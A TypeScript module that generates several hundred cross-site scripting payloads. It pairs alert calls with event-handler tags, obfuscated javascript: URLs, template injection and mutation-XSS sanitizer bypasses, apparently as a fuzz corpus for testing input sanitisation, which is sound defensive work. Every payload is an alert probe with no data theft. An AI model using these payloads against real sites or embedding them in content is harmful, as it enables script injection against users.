const CALLS = ['alert(1)', 'alert`1`', 'window.alert(1)', 'self["alert"](1)', '(0,alert)(1)', 'top.alert(1)', 'setTimeout(alert)'];
const HANDLERS = [
  ['img src=x', 'onerror'], ['svg', 'onload'], ['body', 'onload'], ['input autofocus', 'onfocus'], ['details open', 'ontoggle'],
  ['video src=x', 'onerror'], ['audio src=x', 'onerror'], ['marquee', 'onstart'], ['iframe src=about:blank', 'onload'],
  ['select autofocus', 'onfocus'], ['textarea autofocus', 'onfocus'], ['object data=x', 'onerror'], ['style', 'onload'],
  ['button popovertarget=x', 'onclick'], ['math', 'onmouseover'], ['div tabindex=0', 'onfocus'],
] as const;

/** Attempts to make pasted text run, in more than five hundred shapes. */
export function payloads(): string[] {
  const all: string[] = [];
  for (const call of CALLS) {
    for (const [tag, handler] of HANDLERS) {
      all.push(`<${tag} ${handler}=${call}>`, `"><${tag} ${handler}="${call}">`, `<${tag.toUpperCase()}/${handler}='${call}'//`);
      all.push(`<noscript><p title="</noscript><${tag} ${handler}=${call}>">`);
    }
    for (const scheme of ['javascript:', 'java\tscript:', 'JaVaScRiPt:', '&#106;avascript:', 'data:text/html,<script>'])
      all.push(`<a href="${scheme}${call}">x</a>`, `<iframe src="${scheme}${call}"></iframe>`, `[x](${scheme}${call})`);
    all.push(
      `<script>${call}</script>`, `<svg><script>${call}</script></svg>`, `<template><script>${call}</script></template>`,
      `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`, `\${${call}}`, `{{constructor.constructor('${call}')()}}`,
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`, `</textarea><script>${call}</script>`,
    );
  }
  return all;
}
